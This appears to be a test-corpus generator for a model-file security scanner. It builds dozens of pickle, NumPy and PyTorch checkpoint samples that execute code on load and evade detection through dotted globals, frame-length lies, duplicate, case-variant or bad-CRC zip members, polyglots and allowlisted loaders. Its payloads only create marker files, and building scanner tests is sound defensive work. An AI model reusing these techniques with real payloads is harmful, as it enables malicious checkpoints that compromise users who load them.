"""Generate the malicious scan corpus: samples that really run code when loaded.

Usage: ``python gen_malicious.py OUT_DIR [--no-torch]``

Every payload is harmless: it creates an empty marker file named after the sample in the
directory named by the environment variable ``TORCHLESS_SCAN_MARKER_DIR`` *at load time*
(TorchScript samples cannot read the environment, so they bake in the directory the
variable names at generation time). ``OUT_DIR/manifest.json`` lists each sample with the
loader that runs it (``pickle``, ``gzip``..., ``numpy``, ``torch``, ``jit``, ``export``,
``dcp``) and the technique. Samples that need torch to be built are skipped with
``--no-torch`` or when torch is missing.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

ENV = "TORCHLESS_SCAN_MARKER_DIR"

# -- a tiny pickle assembler ----------------------------------------------------------


def G(mod: str, name: str) -> bytes:
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def S(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def SB(s: str) -> bytes:  # SHORT_BINUNICODE (protocol 4)
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def BY(b: bytes) -> bytes:  # BINBYTES (protocol 3)
    return b"B" + struct.pack("<I", len(b)) + b


def INT(n: int) -> bytes:  # BININT
    return b"J" + struct.pack("<i", n)


def T(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def L(*items: bytes) -> bytes:
    return b"]" + (b"(" + b"".join(items) + b"e" if items else b"")


def D() -> bytes:
    return b"}"


def call(fn: bytes, *args: bytes) -> bytes:
    return fn + T(*args) + b"R"


def pk(body: bytes, proto: int = 2) -> bytes:
    return bytes([0x80, proto]) + body + b"."


def inject(clean: bytes, payload: bytes) -> bytes:
    """Run ``payload`` (one stack item, then POP) before a protocol-2/3 pickle's own opcodes."""
    assert clean[:1] == b"\x80" and clean[1] <= 3, clean[:2]
    return clean[:2] + payload + b"0" + clean[2:]


def sh(name: str) -> str:
    return f'touch "${ENV}/{name}"'


def py(name: str) -> str:
    return f"import os;open(os.path.join(os.environ['{ENV}'],'{name}'),'w').close()"


def marker_path_expr(name: str) -> bytes:
    """``os.path.join(os.getenv(ENV), name)`` as pickle opcodes (computed at load time)."""
    return call(G("os.path", "join"), call(G("os", "getenv"), S(ENV)), S(name))


def os_system(name: str) -> bytes:
    return call(G("os", "system"), S(sh(name)))


# -- raw pickle samples ---------------------------------------------------------------


def raw_samples() -> list[tuple[str, str, str, bytes]]:
    """(file name, loader, technique, bytes)."""
    out: list[tuple[str, str, str, bytes]] = []

    def add(fname: str, technique: str, data: bytes, loader: str = "pickle") -> None:
        out.append((fname, loader, technique, data))

    n = "r01_os_system.pkl"
    add(n, "os.system via GLOBAL + REDUCE", pk(os_system(n)))
    n = "r02_posix_system_proto0.bin"
    add(n, "posix.system, protocol 0 text opcodes", b"cposix\nsystem\n(S'" + sh(n).encode() + b"'\ntR.")

    class _R:
        def __init__(self, cmd: str) -> None:
            self.cmd = cmd

        def __reduce__(self):  # type: ignore[no-untyped-def]
            return (os.system, (self.cmd,))

    n = "r03_stack_global_proto4.pt"
    add(
        n,
        "os.system pickled by Python's pickler at protocol 4 (FRAME, STACK_GLOBAL, MEMOIZE)",
        pickle.dumps({"weights": [1.0, 2.0], "x": _R(sh(n))}, protocol=4),
    )
    n = "r04_stack_global_memo.ckpt"
    add(
        n,
        "STACK_GLOBAL assembled from memoized strings",
        b"\x80\x04" + SB("posix") + b"\x94" + SB("system") + b"\x94" + b"00" + b"h\x00h\x01\x93" + S(sh(n)) + b"\x85R.",
    )
    n = "r05_exec.pkl"
    add(n, "builtins.exec of Python source", pk(call(G("builtins", "exec"), S(py(n)))))
    n = "r06_eval.pkl"
    add(n, "builtins.eval of an expression", pk(call(G("builtins", "eval"), S(f"__import__('os').system({sh(n)!r})"))))
    n = "r07_compile_exec.pkl"
    add(n, "exec(compile(...))", pk(call(G("builtins", "exec"), call(G("builtins", "compile"), S(py(n)), S("<x>"), S("exec")))))
    n = "r08_getattr_import.pkl"
    add(
        n,
        "getattr(__import__('os'), 'system') then a call of the computed value",
        pk(b"".join([call(call(G("builtins", "getattr"), call(G("builtins", "__import__"), S("os")), S("system")), S(sh(n)))])),
    )
    n = "r09_subprocess_call.pkl"
    add(n, "subprocess.call with an argv list", pk(call(G("subprocess", "call"), L(S("sh"), S("-c"), S(sh(n))))))
    n = "r10_subprocess_check_output.data"
    add(n, "subprocess.check_output", pk(call(G("subprocess", "check_output"), L(S("sh"), S("-c"), S(sh(n))))))
    n = "r11_subprocess_run.pkl"
    add(n, "subprocess.run", pk(call(G("subprocess", "run"), L(S("sh"), S("-c"), S(sh(n))))))
    n = "r12_inst.pkl"
    add(n, "INST opcode (class and call in one opcode)", b"(S'" + sh(n).encode() + b"'\nios\nsystem\n.")
    n = "r13_obj.pkl"
    add(n, "OBJ opcode", pk(b"(" + G("os", "system") + S(sh(n)) + b"o"))
    n = "r14_runpy.pkl"
    add(n, "runpy._run_code execs source", pk(call(G("runpy", "_run_code"), S(py(n)), D())))
    n = "r15_importlib.pkl"
    add(
        n,
        "importlib.import_module + getattr",
        pk(call(call(G("builtins", "getattr"), call(G("importlib", "import_module"), S("os")), S("system")), S(sh(n)))),
    )
    n = "r16_pickle_loads_nested.pkl"
    add(n, "pickle.loads of a nested pickle in bytes", pk(call(G("pickle", "loads"), BY(pk(os_system(n)))), proto=3))
    n = "r17_c_pickle_loads.pkl"
    add(n, "_pickle.loads of a nested pickle", pk(call(G("_pickle", "loads"), BY(pk(os_system(n)))), proto=3))
    n = "r18_attrgetter.pkl"
    add(
        n,
        "operator.attrgetter('system')(os)(cmd)",
        pk(call(call(call(G("operator", "attrgetter"), S("system")), call(G("builtins", "__import__"), S("os"))), S(sh(n)))),
    )
    n = "r19_methodcaller.pkl"
    add(
        n,
        "operator.methodcaller('system', cmd)(os)",
        pk(call(call(G("operator", "methodcaller"), S("system"), S(sh(n))), call(G("builtins", "__import__"), S("os")))),
    )
    n = "r20_partial.pkl"
    add(n, "functools.partial(os.system, cmd)()", pk(call(call(G("functools", "partial"), G("os", "system"), S(sh(n))))))
    n = "r21_map_list.pkl"
    add(
        n,
        "list(map(os.system, [cmd])): the callable is only an argument",
        pk(call(G("builtins", "list"), call(G("builtins", "map"), G("os", "system"), L(S(sh(n)))))),
    )
    n = "r22_open_computed_path.pkl"
    add(n, "builtins.open on a path computed at load time", pk(call(G("builtins", "open"), marker_path_expr(n), S("w"))))
    n = "r23_shutil_copy.pkl"
    add(n, "shutil.copyfile to a computed path", pk(call(G("shutil", "copyfile"), S(os.devnull), marker_path_expr(n))))
    n = "r24_timeit.pkl"
    add(
        n,
        "timeit.timeit execs a statement",
        pk(call(G("timeit", "timeit"), S(py(n)), S("pass"), G("time", "perf_counter"), INT(1))),
    )
    n = "r25_cprofile.pkl"
    add(n, "cProfile.run execs a statement", pk(call(G("cProfile", "run"), S(py(n)))))
    n = "r26_code_interpreter.pkl"
    add(
        n,
        "code.InteractiveInterpreter().runsource via getattr",
        pk(call(call(G("builtins", "getattr"), call(G("code", "InteractiveInterpreter")), S("runsource")), S(py(n)))),
    )
    n = "r27_py2_builtin_eval.pkl"
    add(
        n,
        "__builtin__.eval (Python-2 name renamed to builtins.eval)",
        pk(call(G("__builtin__", "eval"), S(f"__import__('os').system({sh(n)!r})"))),
    )
    n = "r28_dotted_stack_global.pkl"
    add(
        n,
        "STACK_GLOBAL('argparse', '_os.system'): dotted attribute walk from an innocent module",
        b"\x80\x04" + SB("argparse") + SB("_os.system") + b"\x93" + S(sh(n)) + b"\x85R.",
    )
    n = "r29_dotted_global_proto4.pkl"
    add(
        n,
        "GLOBAL 'argparse _os.system' under PROTO 4 (dotted names resolved by attribute walk)",
        b"\x80\x04" + G("argparse", "_os.system") + S(sh(n)) + b"\x85R.",
    )
    n = "r30_numpy_runstring.pkl"
    add(
        n,
        "numpy.testing._private.utils.runstring execs source",
        pk(call(G("numpy.testing._private.utils", "runstring"), S(py(n)), D())),
    )
    n = "r31_os_popen.pkl"
    add(n, "os.popen", pk(call(G("builtins", "getattr"), call(G("os", "popen"), S(sh(n))), S("read")) + b")R"))
    n = "r32_spawnlp.pkl"
    add(n, "os.spawnlp(P_WAIT, ...)", pk(call(G("os", "spawnlp"), INT(0), S("sh"), S("sh"), S("-c"), S(sh(n)))))
    n = "r33_frame_length_lie.pkl"
    body = SB("posix") + SB("system") + b"\x93" + S(sh(n)) + b"\x85R."
    add(
        n,
        "FRAME declares only the first 8 bytes; the payload follows outside any frame",
        b"\x80\x04\x95" + struct.pack("<Q", 8) + body,
    )
    n = "r34_payload_in_state_dict.pth"
    clean = pickle.dumps({"state_dict": {"w": [0.5, 0.25]}, "epoch": 3}, protocol=2)
    add(n, "payload run before an ordinary-looking dict (injected opcodes + POP)", inject(clean, os_system(n)))
    n = "r35_misnamed.safetensors"
    add(n, "a pickle named like a safetensors file", pk(os_system(n)))
    n = "r36_noextension"
    add(n, "a pickle without an extension", pk(call(G("builtins", "exec"), S(py(n)))))
    n = "r37_config.json"
    add(n, "a protocol-0 pickle named .json", b"cbuiltins\nexec\n(V" + py(n).encode() + b"\ntR.")
    n = "r38_binstring_proto1.pkl"
    cmd = sh(n).encode()
    add(n, "protocol 1 BINSTRING argument", b"cos\nsystem\n(T" + struct.pack("<i", len(cmd)) + cmd + b"tR.")
    n = "r39_proto5_unicode8.pkl"
    c = sh(n).encode()
    add(
        n,
        "protocol 5 with BINUNICODE8 and STACK_GLOBAL",
        b"\x80\x05" + SB("os") + SB("system") + b"\x93\x8d" + struct.pack("<Q", len(c)) + c + b"\x85R.",
    )
    n = "r40_newobj_ex_getattr.pkl"
    add(
        n,
        "getattr reached through a memo reference (BINPUT/BINGET)",
        pk(
            G("builtins", "getattr")
            + b"q\x07"
            + b"0"
            + b"h\x07"
            + T(call(G("builtins", "__import__"), S("os")), S("system"))
            + b"R"
            + T(S(sh(n)))
            + b"R"
        ),
    )
    return out


def compressed_samples() -> list[tuple[str, str, str, bytes]]:
    out = []
    n = "c01_gzip.joblib"
    out.append((n, "gzip", "gzip-compressed pickle (joblib compress='gzip')", gzip.compress(pk(os_system(n)))))
    n = "c02_bz2.joblib"
    out.append((n, "bz2", "bz2-compressed pickle", bz2.compress(pk(os_system(n)))))
    n = "c03_xz.pkl.xz"
    out.append((n, "xz", "xz-compressed pickle", lzma.compress(pk(os_system(n)))))
    n = "c04_zlib.joblib"
    out.append((n, "zlib", "zlib-compressed pickle (joblib's default compressor)", zlib.compress(pk(os_system(n)))))
    n = "c05_lzma.joblib"
    out.append((n, "lzma", "lzma-alone-compressed pickle", lzma.compress(pk(os_system(n)), format=lzma.FORMAT_ALONE)))
    return out


def npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = 64 - ((10 + len(header) + 1) % 64)
    h = (header + " " * pad + "\n").encode("latin1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + payload


def numpy_samples() -> list[tuple[str, str, str, bytes]]:
    out = []
    n = "n01_object.npy"
    out.append((n, "numpy", ".npy object array whose pickle runs os.system", npy_object(pk(os_system(n)))))
    n = "n02_object.npz"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("arr.npy", npy_object(pk(os_system(n))))
    out.append((n, "numpy", ".npz member with an object-array pickle", buf.getvalue()))
    return out


# -- zip tooling ------------------------------------------------------------------------


def raw_zip(
    entries: list[tuple[str, bytes]],
    *,
    local_names: dict[int, str] | None = None,
    bad_crc: set[int] = frozenset(),
    flags: dict[int, int] | None = None,
) -> bytes:  # type: ignore[assignment]
    """A stored zip with full control over names, CRCs and flags (duplicates allowed)."""
    out = bytearray()
    central = bytearray()
    for i, (name, data) in enumerate(entries):
        crc = zlib.crc32(data) & 0xFFFFFFFF
        if i in bad_crc:
            crc ^= 0xDEADBEEF
        lname = (local_names or {}).get(i, name).encode()
        cname = name.encode()
        fl = (flags or {}).get(i, 0)
        off = len(out)
        out += (
            struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, fl, 0, 0, 0, crc, len(data), len(data), len(lname), 0) + lname + data
        )
        central += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                fl,
                0,
                0,
                0,
                crc,
                len(data),
                len(data),
                len(cname),
                0,
                0,
                0,
                0,
                0,
                off,
            )
            + cname
        )
    cd = len(out)
    out += central
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), cd, 0)
    return bytes(out)


def zip_members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


# -- torch-built samples ----------------------------------------------------------------


def torch_samples(out_dir: str) -> list[dict]:
    import torch

    from torchless.container.zip import TorchZipWriter, ZipReader

    man: list[dict] = []

    def rec(fname: str, loader: str, technique: str, data: bytes | None = None) -> None:
        if data is not None:
            with open(os.path.join(out_dir, fname), "wb") as f:
                f.write(data)
        man.append({"name": fname, "loader": loader, "technique": technique})

    sd = {"w": torch.arange(6, dtype=torch.float32).reshape(2, 3), "b": torch.zeros(2)}
    buf = io.BytesIO()
    torch.save(sd, buf)
    clean_zip = buf.getvalue()
    members = zip_members(clean_zip)
    prefix = members[0][0].split("/")[0]

    def with_data_pkl(new: bytes, fname: str) -> bytes:
        path = os.path.join(out_dir, fname)
        w = TorchZipWriter(path, prefix=prefix)
        for name, data in members:
            rel = name.split("/", 1)[1]
            w.write(rel, new if rel == "data.pkl" else data)
        w.close()
        with open(path, "rb") as f:
            return f.read()

    clean_pkl = dict(members)[f"{prefix}/data.pkl"]
    n = "t01_zip_os_system.pt"
    with_data_pkl(inject(clean_pkl, os_system(n)), n)
    rec(n, "torch", "torch zip: data.pkl runs os.system before the state dict")
    n = "t02_zip_exec.pth"
    with_data_pkl(inject(clean_pkl, call(G("builtins", "exec"), S(py(n)))), n)
    rec(n, "torch", "torch zip: data.pkl execs source")
    n = "t03_zip_getattr_chain.bin"
    with_data_pkl(
        inject(
            clean_pkl, call(call(G("builtins", "getattr"), call(G("builtins", "__import__"), S("os")), S("system")), S(sh(n)))
        ),
        n,
    )
    rec(n, "torch", "torch zip: getattr chain")
    n = "t04_zip_dotted.pt"
    with_data_pkl(b"\x80\x04" + G("argparse", "_os.system") + S(sh(n)) + b"\x85R" + b"0" + clean_pkl[2:], n)
    rec(n, "torch", "torch zip: dotted GLOBAL under PROTO 4")

    # duplicate data.pkl: put the payload in the copy torch's reader picks
    n = "t05_zip_duplicate.pt"
    evil = inject(clean_pkl, os_system(n))
    for order in ((clean_pkl, evil), (evil, clean_pkl)):
        ents = [(name, data) for name, data in members if not name.endswith("/data.pkl")]
        ents.insert(0, (f"{prefix}/data.pkl", order[0]))
        ents.append((f"{prefix}/data.pkl", order[1]))
        data = raw_zip(ents)
        zr = ZipReader(data)
        if bytes(zr.read("data.pkl")) == evil:
            break
    rec(n, "torch", "duplicate data.pkl members; torch reads the malicious copy", data)
    n = "t06_zip_case_variant.pt"
    ents = [
        (
            (f"{prefix}/DATA.PKL" if name.endswith("/data.pkl") else name),
            (inject(clean_pkl, os_system(n)) if name.endswith("/data.pkl") else d),
        )
        for name, d in members
    ]
    rec(n, "torch", "member named DATA.PKL: torch's lookup is case-insensitive", raw_zip(ents))
    n = "t07_zip_bad_crc.pt"
    ents = [(name, (inject(clean_pkl, os_system(n)) if name.endswith("/data.pkl") else d)) for name, d in members]
    idx = [i for i, (name, _d) in enumerate(ents) if name.endswith("/data.pkl")][0]
    rec(n, "torch", "data.pkl with a wrong CRC-32: zipfile refuses it, torch does not check", raw_zip(ents, bad_crc={idx}))
    n = "t08_zip_name_mismatch.pt"
    ents = [(name, (inject(clean_pkl, os_system(n)) if name.endswith("/data.pkl") else d)) for name, d in members]
    rec(
        n,
        "torch",
        "local header names data.pkl differently from the central directory",
        raw_zip(ents, local_names={idx: f"{prefix}/notes.txt"}),
    )
    n = "t09_polyglot_pickle_zip.pt"
    head = inject(pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2), os_system(n))
    rec(
        n,
        "torch",
        "pickle head + benign zip tail: torch.load reads the head as a legacy stream, zip tools the tail",
        head + clean_zip,
    )
    # torch.storage._load_from_bytes (allowlisted by torchless) reaching a malicious legacy stream
    n = "t10_load_from_bytes.pt"
    lb = io.BytesIO()
    torch.save(torch.zeros(1), lb, _use_new_zipfile_serialization=False)
    legacy_inner = lb.getvalue()
    evil_inner = inject(legacy_inner[: legacy_inner.index(b".") + 1], os_system(n)) + legacy_inner[legacy_inner.index(b".") + 1 :]
    with_data_pkl(pk(call(G("torch.storage", "_load_from_bytes"), BY(evil_inner)), proto=3), n)
    rec(n, "torch", "torch.storage._load_from_bytes (allowlisted) runs torch.load(weights_only=False) on embedded bytes")

    # legacy stream: payload in each of the five pickles
    lb = io.BytesIO()
    torch.save(sd, lb, _use_new_zipfile_serialization=False)
    legacy = lb.getvalue()
    from torchless.scan.analysis import analyse

    bounds = [0]
    for _ in range(5):
        bounds.append(analyse(legacy, start=bounds[-1]).end)
    for k in range(5):
        n = f"l0{k + 1}_legacy_pickle{k + 1}.pt"
        part = legacy[bounds[k] : bounds[k + 1]]
        rec(
            n,
            "torch",
            f"legacy stream format: payload in pickle #{k + 1} of 5",
            legacy[: bounds[k]] + inject(part, os_system(n)) + legacy[bounds[k + 1] :],
        )

    # legacy tar layout
    def tar_bytes(storages: bytes, tensors: bytes, obj: bytes) -> bytes:
        b = io.BytesIO()
        with tarfile.open(fileobj=b, mode="w", format=tarfile.PAX_FORMAT) as tf:
            for name, data in (
                ("sys_info", pickle.dumps({"little_endian": True}, protocol=2)),
                ("storages", storages),
                ("tensors", tensors),
                ("pickle", obj),
            ):
                ti = tarfile.TarInfo(name)
                ti.size = len(data)
                tf.addfile(ti, io.BytesIO(data))
        return b.getvalue()

    zero = pickle.dumps(0, protocol=2)
    empty = pickle.dumps([], protocol=2)
    obj = pickle.dumps({"epoch": 1}, protocol=2)
    n = "tar01_pickle_member.tar"
    rec(n, "torch", "legacy tar: payload in the 'pickle' member", tar_bytes(zero + empty, zero, inject(obj, os_system(n))))
    n = "tar02_storages_member.tar"
    rec(n, "torch", "legacy tar: payload in the storage-count pickle", tar_bytes(inject(zero, os_system(n)) + empty, zero, obj))
    n = "tar03_tensors_member.tar"
    rec(n, "torch", "legacy tar: payload in the tensor-count pickle", tar_bytes(zero + empty, inject(zero, os_system(n)), obj))
    return man


_TS_SRC = """
import torch


class Evil(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.x = 1

    def forward(self, a):
        return a

    @torch.jit.export
    def __getstate__(self):
        return (self.x, self.training)

    @torch.jit.export
    def __setstate__(self, s: tuple[int, bool]):
        self.training = s[1]
        self.x = s[0] + torch.from_file(MARKER, True, 1).numel()
"""


def torchscript_samples(out_dir: str) -> list[dict]:
    import importlib.util
    import tempfile

    import torch

    marker_dir = os.environ.get(ENV) or tempfile.gettempdir()
    n = "ts01_setstate_from_file.pt"
    src = _TS_SRC.replace("MARKER", repr(os.path.join(marker_dir, n)))
    with tempfile.TemporaryDirectory() as td:
        p = os.path.join(td, "evil_ts_module.py")
        with open(p, "w") as f:
            f.write(src)
        spec = importlib.util.spec_from_file_location("evil_ts_module", p)
        mod = importlib.util.module_from_spec(spec)  # type: ignore[arg-type]
        spec.loader.exec_module(mod)  # type: ignore[union-attr]
        torch.jit.save(torch.jit.script(mod.Evil()), os.path.join(out_dir, n))
    return [
        {
            "name": n,
            "loader": "jit",
            "technique": (
                "TorchScript __setstate__ calls torch.from_file (creates a "
                "file) at torch.jit.load; no Python global in any pickle"
            ),
        }
    ]


def pt2_samples(out_dir: str) -> list[dict]:
    import torch

    class M(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.l = torch.nn.Linear(3, 2)

        def forward(self, x):  # type: ignore[no-untyped-def]
            return self.l(x)

    ep = torch.export.export(M(), (torch.randn(1, 3),))
    buf = io.BytesIO()
    torch.export.save(ep, buf)
    members = zip_members(buf.getvalue())
    n = "p01_sample_inputs.pt2"

    class _R:
        def __reduce__(self):  # type: ignore[no-untyped-def]
            return (os.system, (sh(n),))

    evil = io.BytesIO()
    torch.save(((torch.randn(1, 3),), {"_": _R()}), evil)
    from torchless.container.zip import TorchZipWriter

    prefix = members[0][0].split("/")[0]
    w = TorchZipWriter(os.path.join(out_dir, n), prefix=prefix)
    for name, data in members:
        rel = name.split("/", 1)[1]
        w.write(rel, evil.getvalue() if rel.startswith("data/sample_inputs/") else data)
    w.close()
    return [
        {"name": n, "loader": "export", "technique": ".pt2 sample inputs: torch.export.load retries them with weights_only=False"}
    ]


def dcp_samples(out_dir: str) -> list[dict]:
    import torch
    import torch.distributed.checkpoint as dcp

    man = []
    n = "d01_metadata"
    d = os.path.join(out_dir, n)
    dcp.save({"w": torch.ones(2, 2), "step": 3}, checkpoint_id=d, no_dist=True)
    mp = os.path.join(d, ".metadata")
    with open(mp, "rb") as f:
        meta = f.read()
    # re-pickle the metadata at protocol 2 (no frames) and run the payload first
    obj = _plain_pickle_load(meta)
    with open(mp, "wb") as f:
        f.write(inject(pickle.dumps(obj, protocol=2), os_system(n)))
    man.append({"name": n, "loader": "dcp", "technique": "DCP .metadata (read with plain pickle.load) runs os.system"})

    n = "d02_bytes_item"
    d = os.path.join(out_dir, n)

    class _R:
        def __reduce__(self):  # type: ignore[no-untyped-def]
            return (os.system, (sh(n),))

    dcp.save({"w": torch.ones(2, 2), "extra": _R()}, checkpoint_id=d, no_dist=True)
    man.append({"name": n, "loader": "dcp", "technique": "DCP non-tensor item (torch.load(weights_only=False) inside a .distcp)"})
    return man


def _plain_pickle_load(data: bytes):  # type: ignore[no-untyped-def]
    # the generator is the only place that round-trips DCP metadata through pickle (the
    # metadata was just written by torch in this process; this is not library code)
    return pickle.loads(data)  # noqa: S301


def main(argv: list[str]) -> int:
    out_dir = argv[0]
    os.makedirs(out_dir, exist_ok=True)
    use_torch = "--no-torch" not in argv
    manifest: list[dict] = []
    for fname, loader, technique, data in raw_samples() + compressed_samples() + numpy_samples():
        with open(os.path.join(out_dir, fname), "wb") as f:
            f.write(data)
        manifest.append({"name": fname, "loader": loader, "technique": technique})
    if use_torch:
        try:
            import torch  # noqa: F401
        except ImportError:
            use_torch = False
    if use_torch:
        manifest += torch_samples(out_dir)
        manifest += torchscript_samples(out_dir)
        manifest += pt2_samples(out_dir)
        manifest += dcp_samples(out_dir)
    with open(os.path.join(out_dir, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
    print(f"wrote {len(manifest)} malicious samples to {out_dir}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
